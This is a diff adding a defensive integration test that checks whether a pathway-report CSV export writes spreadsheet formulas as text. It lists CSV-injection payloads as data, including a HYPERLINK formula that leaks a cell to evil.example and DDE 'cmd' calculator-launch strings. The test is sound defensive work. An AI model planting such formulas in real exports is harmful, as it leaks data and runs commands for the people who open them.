@@ -12,10 +12,13 @@ line and the API, as an attacker from outside would:
   ignored, never a 500 nor a redirect off the site;
 - headers: pages that show a secret are never cached; every page says nosniff, a
   referrer policy and a script policy;
+- CSV: a formula given as a report parameter is written as text, not as a formula.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import statistics
 import time
 from urllib.parse import quote
@@ -34,6 +37,7 @@ from tests.integration.identity import (
 )
 from tests.integration.stack import RunningStack
 from tests.resilience.ledger import Ledger
+from tests.resilience.roles import EVALUATOR, Roles
 
 pytestmark = [pytest.mark.resilience, pytest.mark.integration]
 
@@ -391,3 +395,43 @@ def test_every_page_says_nosniff_a_referrer_policy_and_a_script_policy(
     ledger.record(PART, tried=len(PUBLIC_PAGES), failed=len(lacking))
     ledger.note(PART, f"security headers on {len(PUBLIC_PAGES)} public pages and answers")
     assert not lacking, lacking
+
+
+# 13. CSV -------------------------------------------------------------------------------
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def _formula_cells(text: str) -> list[str]:
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_a_formula_in_a_report_parameter_is_text_in_the_pathway_csv(
+    roles: Roles, ledger: Ledger
+) -> None:
+    formulas, shown = [], 0
+    for formula in FORMULAS:
+        answer = roles.call(
+            EVALUATOR,
+            "GET",
+            "/api/v1/reports/pathways.csv",
+            params={"territory": formula, "from": "2026-01-01", "to": "2026-01-31"},
+            timeout=120,
+        )
+        if answer.status_code == 422 and formula[0] in "\t\r":
+            continue  # refused at the door: as good as escaped
+        assert answer.status_code == 200, answer.text[:500]
+        formulas += _formula_cells(answer.text)
+        shown += formula.lstrip("\t\r") in answer.text
+    ledger.record(PART, tried=len(FORMULAS), failed=len(formulas))
+    ledger.note(PART, f"CSV: {len(FORMULAS)} formulas as a report parameter, written as text")
+    assert shown >= 4  # the parameter is in the CSV (as text)
+    assert not formulas, formulas
